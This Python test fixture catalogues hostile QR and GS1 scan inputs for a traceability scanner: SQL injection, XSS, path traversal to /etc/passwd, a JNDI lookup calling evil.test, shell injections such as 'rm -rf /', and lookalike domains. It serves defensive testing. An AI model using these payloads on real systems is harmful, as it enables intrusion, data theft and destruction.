"""Payloads made by hand to deceive, to break or to be shown: by category.

A row is the payload and its hostile part (what must not be seen on a screen), or the payload alone,
where all of it is hostile. `]Q1` unless a row says otherwise.
"""

# ruff: noqa: E501 - one payload cut over several lines is no longer read as what it is

from __future__ import annotations

from dataclasses import dataclass

from tests.conformance.world import GLN, HOST, OTHER_G, SSCC, G

P = f"https://{HOST}/01/{G}"
E = "https://evil.test"
S = "EAARVfESmqyvIlbpaJy0g-TT9m_oqUEPIYjehw4ilWY6JTw8pbd_P4Bb65oTCAUR5WslEZ2uFIUJiKokSa-I_7Y8Bg"
"""A genuine seal, of `/01/08930000000019/10/L2611A/21/7K2M9Q4T?17=261130` and of nothing else."""
UNIT = f"{P}/10/L2611A/21/7K2M9Q4T?17=261130"
GS1 = f"01{G}"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A payload, and the part of it that nobody must read."""

    category: str
    content: bytes
    symbology: str | None
    part: str


QR: dict[str, tuple[str | bytes | tuple[str, str], ...]] = {
    "too long": (
        "A" * 513, "8" * 5000, f"{P}?x=" + "a" * 600, f"{P}/10/" + "L" * 600, "https://" + "a" * 600 + ".test/01/" + G,
        "(" * 2000, "%41" * 300, "ế" * 171, b"\xff" * 513, f"{UNIT}&s={S}" + "&x=" + "b" * 400, "\u202e" * 400, "{" * 600,
    ),
    "control characters": (
        "8930000000019\x00", "\x008930000000019", f"{P}\n", f"{P}\r\nSet-Cookie: a=bcdef", f"{P}/10/L\t1", "\x1b[2J\x1b[31mSAFE",
        "\x1b]0;title\x07", "\x07\x07\x07\x07", "abcd\x08\x08\x08\x08", "\x7f\x7f\x7f\x7f", "\x85\x85\x85\x85", "\x9b31mfake",
        f"{P}\x0b", f"{P}\x0c", "\x1d01" + G, f"{P}/10/L\x1d21S", "\x04\x04\x04\x04", "\x1a\x1a\x1a\x1a",
        f"{P}\x00.evil.test", f"{UNIT}&s={S}\x00",
    ),
    "invalid UTF-8": (
        b"\xff\xfe\xfd\xfc", b"\x80\x81\x82\x83", b"\xc0\xaf\xc0\xaf", b"\xe0\x80\xaf", b"\xf0\x80\x80\xaf", b"\xf8\x88\x80\x80\x80",
        b"\xed\xa0\x80\xed\xb0\x80", b"\xf4\x90\x80\x80", b"Rau mu\xf4\xecng s\xbfch", b"https://trace.example/01/\xff",
        P.encode() + b"/10/\xc3", P.encode() + b"\xa0", b"\xef\xbb", "Rau sạch".encode("utf-16"), "Rau sạch".encode("utf-32"),
    ),
    "bidi and zero width": (
        "\u202eEFAS si sihT", "\u2066safe\u2069 to eat", f"{P}/10/\u202eAB", f"{P}\u200b", f"https://trace\u200b.example/01/{G}",
        f"https://\u202etrace.example/01/{G}", "\u200b\u200c\u200d\ufeff", "\ufeff8930000000019", "893\u2060000000019",
        f"{P}/10/L\u200d1", f"\u200e{P}", f"{P}?s=\u200b{S}", "\u061c\u061c\u061cabc", f"{UNIT}&s={S}\u202c", "\u180e\u180eabcd",
        "\U000e0041\U000e0042\U000e0043", "a\u0300\u0301\u0302\u0303\u0304" * 10, "﷽" * 20,
    ),
    "hosts that look like ours": (
        f"https://tr\u0430ce.example/01/{G}", f"https://trace.ex\u0430mple/01/{G}", f"https://\u1d57race.example/01/{G}",
        f"https://trace.examp1e/01/{G}", f"https://trace.exarnple/01/{G}", f"https://tracé.example/01/{G}",
        f"https://ｔrace.example/01/{G}", f"https://trace\u3002example/01/{G}", f"https://trace\uff0eexample/01/{G}",
        f"https://trace-example.test/01/{G}", f"https://{HOST}.evil.test/01/{G}", f"https://www.{HOST}.evil.test/01/{G}",
        f"https://{HOST}-evil.test/01/{G}", f"https://t-race.example.evil/01/{G}", f"https://TR\u0410CE.EXAMPLE/01/{G}",
        f"https://trace.exam\u03c1le/01/{G}", f"https://%74race.example/01/{G}", f"https://trace.example%2eevil.test/01/{G}",
        f"https://trace.example%00.evil.test/01/{G}", f"https://trace.example\u2044evil.test/01/{G}",
        f"https://tra\u00adce.example/01/{G}", f"https://trace.\u0435xample/01/{G}/10/L2611A?s={S}", f"https://trace..example/01/{G}",
        f"https://.trace.example/01/{G}",
    ),
    "IDN": (
        f"https://xn--trce-63d.example/01/{G}", f"https://xn--trce-63d.xn--exmple-4nf/01/{G}", f"https://xn--/01/{G}",
        f"https://xn--a/01/{G}", f"https://xn--\u0430/01/{G}", f"https://xn--99999999999/01/{G}", f"https://XN--TRCE-63D.example/01/{G}",
        f"https://trace.xn--exmple-4nf/01/{G}", f"https://xn--trce-63d.example.evil/01/{G}", f"https://xn--{'a' * 300}/01/{G}",
    ),
    "user-info and ports": (
        f"https://{HOST}@evil.test/01/{G}", f"https://{HOST}:443@evil.test/01/{G}", f"https://kiosk:secret@{HOST}/01/{G}",
        f"https://@{HOST}/01/{G}", f"https://{HOST}:8443/01/{G}", f"https://{HOST}:/01/{G}", f"https://{HOST}:0443/01/{G}",
        f"https://{HOST}:99999999/01/{G}", f"http://{HOST}:443/01/{G}", f"https://{HOST}:-1/01/{G}", f"https://{HOST}:443:443/01/{G}",
        f"https://{HOST}./01/{G}", f"https://{HOST}../01/{G}", f"https://[::1]/01/{G}", f"https://[::ffff:7f00:1]:443/01/{G}",
        f"https://2130706433/01/{G}", f"https://127.0.0.1/01/{G}", f"https://evil.test\\@{HOST}/01/{G}",
        f"https://{HOST}%40evil.test/01/{G}", f"https://a@b@{HOST}/01/{G}", f"https:///{HOST}/01/{G}", f"https:/{HOST}/01/{G}",
        f"//{HOST}/01/{G}", f"https:{HOST}/01/{G}",
    ),
    "other schemes": (
        "javascript:alert(document.cookie)", "data:text/html,<b>an toàn</b>", "file:///etc/passwd", f"ftp://{HOST}/01/{G}",
        "tel:+84900000000", "sms:+84900000000?body=OK", "mailto:a@evil.test", "intent://scan/#Intent;scheme=zxing;end",
        "market://details?id=evil", "otpauth://totp/x?secret=ABCDEFGH", "bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT", f"ws://{HOST}/01/{G}",
        "geo:21.0,105.8", "magnet:?xt=urn:btih:abcdef", f"httpss://{HOST}/01/{G}", f"hxxps://{HOST}/01/{G}", f"ſhttps://{HOST}/01/{G}",
        "chrome://settings", "about:blank#evil", "blob:https://evil.test/1234", "view-source:https://evil.test",
    ),
    "Wi-Fi, contacts, payment": (
        "WIFI:T:WPA;S:MinhKhai;P:s3cr3tpw;;", "WIFI:S:evil\\;net;T:nopass;;", "BEGIN:VCARD VERSION:3.0 FN:An TEL:0900 END:VCARD",
        "MECARD:N:Nguyen,An;TEL:0900000000;;", "BEGIN:VEVENT SUMMARY:Sale END:VEVENT",
        "00020101021238570010A00000072701270006970436011301234567890120208QRIBFTTA53037045802VN6304ABCD",
        "00020101021126280010vn.zalopay0112pay123456", "2|99|0900000000|An|momo|0|0|50000||transfer_myqr",
        "SPC 0200 1 CH4431999123000889012", "upi://pay?pa=evil@bank&am=1000", "https://me.momo.vn/abcdefgh", "https://zalo.me/0900000000",
        "https://viet.qr/pay?acc=1234567890", "ST00012|Name=Evil|PersonalAcc=40702810", "BCD 002 1 SCT EVILDEFF Name",
    ),
    "paths": (
        f"{P}/../../../etc/passwd", f"{P}/10/..%2F..%2Fetc%2Fpasswd", f"https://{HOST}/../../01/passwd", f"{P}/10/....//....//etc",
        f"{P}/10/%2e%2e%2f%2e%2e%2f", "../../../../etc/shadow", "..\\..\\..\\windows\\system32", f"{P}/10/C:\\evil", f"{P}/10/~root",
        f"{P}/10//etc/passwd", f"{P}/10/%2Fdev%2Frandom", f"{P};/../admin", "/proc/self/environ", f"https://{HOST}/01/{G}/10/.%2Fadmin%2F..",
    ),
    "SQL": (
        "' OR '1'='1", "'; DROP TABLE journal;--", f"{P}/10/'OR'1'='1", f"{P}/10/1;DROP%20TABLE", f"{P}/10/'--drop--", f"{P}/21/%27%3BDROP",
        f"{P}/10/A'UNION*SELECT", f"{GLN}' UNION SELECT", "1)) OR SLEEP(5)#", f"{P}/10/%25' AND 1=1", "admin'/*", f"{P}/10/'%3B--x/21/'%3B--y",
        f"https://{HOST}/414/{GLN}'--drop", f"https://{HOST}/414/{GLN}/254/'%3BDROP--",
    ),
    "format strings": (
        "%s%s%s%s%n", "%x%x%x%x%x%x", "{0.__class__.__mro__}", "{headline!r:>999999999}", "${jndi:ldap://evil.test/a}", "{{7*7}}evil",
        "#{system('id')}", f"{P}/10/%25s%25n%25s", f"{P}/10/(0)s%25d", "%(headline)s", "{lot}{goods}", "${IFS}cat", "$(reboot)", "`reboot`",
        "| shutdown -h now", "&& rm -rf /", "%d" * 100, f"{P}/10/%25(lot)s",
    ),
    "HTML and markup": (
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<b>AN TOÀN</b>", "<font color=green>Mã xác thực đúng</font>",
        f"{P}/10/%3Cscript%3E", f"{P}/10/%3Cb%3ESAFE%3C%2Fb%3E", "<a href='https://evil.test'>hold</a>", "<svg/onload=alert(1)>",
        "<!--#exec cmd='id'-->", "&lt;b&gt;bold&lt;/b&gt;", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y 'z'>]>", "[link](https://evil.test)",
        "<table><tr><td>green", "<br><br><br><h1>GENUINE</h1>", "qrc:/qml/Main.qml evil", "Qt.quit() evil", f"{P}/10/<h1>SAFE</h1>",
        f"{P}?x=<h1>SAFE</h1>/21/", "<style>*{display:none}</style>",
    ),
    "repeated and empty keys": (
        (f"{UNIT}&17=261130&s={S}", S[:60]), (f"{UNIT}&s={S}&s={S}", S[:60]), (f"{UNIT}&s=&s={S}", S[:60]), (f"{UNIT}&10=L2611A&s={S}", S[:60]),
        (f"{P}/10/L2611A/10/L2611A?s={S}", S[:60]), (f"{P}/10//21/7K2M9Q4T?17=261130&s={S}", S[:60]), (f"{UNIT}&01={G}&s={S}", S[:60]),
        (f"{P}/01/{OTHER_G}/10/EVILLOT?s={S}", "EVILLOT"), (f"{UNIT}&=x&s={S[:-1]}", S[:60]), (f"{UNIT}&&&&&s", S[:60]), (f"{UNIT}&s", S[:60]),
        (f"{UNIT}&00={SSCC}&s={S}", S[:60]), (f"{UNIT}&9999=EVIL&s={S}", "EVIL"), (f"{UNIT}&0=EVIL&s={S}", "EVIL"),
        (f"{UNIT}&414={GLN}&414={GLN}&s={S}", S[:60]), (f"{UNIT}&240=EVILTEXT&s={S}", "EVILTEXT"), (f"{UNIT}&8200=http://evil.test&s={S}", "evil.test"),
    ),
    "percent tricks": (
        (f"{P}/10/%4C2611%", "2611%"), (f"{P}/10/%GG", "%GG/"), (f"{P}/10/%u0041EVIL", "EVIL"), (f"{P}/10/EVIL%00?s={S}", "EVIL"),
        (f"{P}/10/EVIL%0A?s={S}", "EVIL"), (f"{P}/10/EVIL%1D17270101?s={S}", "EVIL"), (f"{P}/10/EVIL%C0%AF?s={S}", "EVIL"),
        (f"{P}/10/EVIL%ED%A0%80", "EVIL"), (f"{P}/10/EVIL%E2%80%AE", "EVIL"), (f"{P}/10/%45%56%49%4C", "EVIL"), (f"{P}/10/%2545VIL%2500", "%45VIL"),
        (f"https://{HOST}/%30%31/{G}/10/EVIL", "EVIL"), (f"{UNIT}&%73={S}", S[:60]), (f"{UNIT}&s=%{S[:88]}", S[:60]), (f"{UNIT}&s={S[:-1]}%67", S[:60]),
        (f"{P}/10/EVIL%2F21%2FOTHER", "EVIL"), (f"{P}%2F10%2FEVILLOT", "EVILLOT"), (f"{P}/10/EVIL%3Fs={S}", "EVIL"), (f"{P}/10/EVIL%26s={S}", "EVIL"),
        (f"{P}/10/EVIL+LOT?s={S}", "EVIL"), (f"{P}/10/EVIL%20LOT?s={S}", "EVIL"), (f"{P}/10/EVIL%7F", "EVIL"), (f"{P}/10/EVIL%C2%85", "EVIL"),
    ),
    "another's seal": (
        (f"{P}/10/EVILLOT/21/7K2M9Q4T?17=261130&s={S}", "EVILLOT"), (f"{P}/10/L2611A/21/EVILSER?17=261130&s={S}", "EVILSER"),
        (f"{P}/10/L2611A/21/7K2M9Q4T?17=271130&s={S}", S[:60]), (f"{P}/10/L2611A/21/7K2M9Q4T?s={S}", S[:60]),
        (f"{P}/10/L2611A?17=261130&s={S}", S[:60]), (f"https://{HOST}/01/{OTHER_G}/10/L2611A/21/7K2M9Q4T?17=261130&s={S}", S[:60]),
        (f"https://{HOST}/414/{GLN}?s={S}", S[:60]), (f"https://{HOST}/00/{SSCC}?s={S}", S[:60]), (f"{UNIT}&s={S[::-1]}", S[::-1][:60]),
        (f"{UNIT}&s={S.swapcase()}", S.swapcase()[:60]), (f"{UNIT}&s={S}A", S[:60]), (f"{UNIT}&s={S[:89]}", S[:60]), (f"{UNIT}&s={S[:89]}h", S[:60]),
        (f"{UNIT}&s={'A' * 90}", "AAAA"), (f"{UNIT}&s=EAAA{'A' * 86}", "AAAA"), (f"{UNIT}&s={'_' * 90}", "____"), (f"{UNIT}&s={S.replace('-', '+').replace('_', '/')}", S[:40]),
        (f"{UNIT}&17=261130#&s={S}", S[:60]), (f"{UNIT}#&s={S}", S[:60]), (f"{E}/01/{G}/10/L2611A/21/7K2M9Q4T?17=261130&s={S}", "evil.test"),
    ),
    "numbers": (
        ("8930000000018", "8930000000018"), ("٨٩٣٠٠٠٠٠٠٠٠١٩", "٨٩٣٠"), ("８９３００００００００１９", "８９３０"), ("893000000001９", "1９"), ("8.93e12", "93e12"), ("0x81F2C3D4", "0x81"),
        ("-8930000000019", "-893"), ("+8930000000019", "+893"), (" 8930000000019", " 893"), ("8930000000019 ", "019 "), ("893 000 000 0019", "893 "),
        ("1" * 400, "1111"), ("²²²²²²²²²²²²²", "²²²²"), ("HNX00417S-EVIL", "EVIL"), ("HNP00417S'--", "S'--"), ("①②③④⑤⑥⑦⑧", "①②③④"),
    ),
}  # fmt: skip

GS1_STRINGS: tuple[tuple[str, str], ...] = (
    (f"{GS1}10<script>alert", "<script>"), (f"{GS1}10EVIL\x1d10EVIL", "EVIL"), (f"{GS1}10\x1d21EVIL", "EVIL"), (f"{GS1}\x1d\x1d10EVIL", "EVIL"),
    (f"\x1d{GS1}10EVIL", "EVIL"), (f"{GS1}10EVIL';DROP--", "EVIL"), (f"{GS1}10%s%s%n%n", "%s%s"), (f"{GS1}10../../etc", "../.."),
    (f"{GS1}10" + "E" * 21, "EEEE"), (f"{GS1}10" + "E" * 400, "EEEE"), (f"{GS1}10EVIL\x00", "EVIL"), (f"{GS1}10EVIL\n", "EVIL"), (f"{GS1}8200http://evil.test", "evil.test"),
    (f"{GS1}99EVILTEXT", "EVILTEXT"), (f"{GS1}91javascript:alert(1)", "javascript"), (f"{GS1}21\u202eEVIL", "EVIL"), ("8110evil-coupon", "evil"),
    (f"{GS1}10\u0430\u0435\u043e\u0440", "\u0430\u0435\u043e\u0440"), ("(01)08930000000019(10)EVIL", "EVIL"), (f"{GS1}17999999", "999999"),
)  # fmt: skip


def _row(category: str, written: str | bytes | tuple[str, str], symbology: str | None = "]Q1") -> Hostile:
    content, part = (written, None) if isinstance(written, str | bytes) else written
    raw = content if isinstance(content, bytes) else content.encode("utf-8", "surrogatepass")
    return Hostile(category, raw, symbology, part if part is not None else _hostile_part(raw))


def _hostile_part(raw: bytes) -> str:
    """Return all but our own address and number, which a screen may show of itself."""
    text = raw.decode("utf-8", "replace")
    for ours in (UNIT, P, f"https://{HOST}", f"/01/{G}", S, G, "8930000000019", HOST):
        text = text.replace(ours, "\n")
    return text


HOSTILE = (
    *(_row(category, written) for category, rows in QR.items() for written in rows),
    *(_row("element strings", written, "]C1") for written in GS1_STRINGS),
    *(
        _row("typed", written, None)
        for written in ("<b>8930", "4065'--", "HNP00417S<", "9" * 500, "40\u200b65", "../4065")
    ),
)
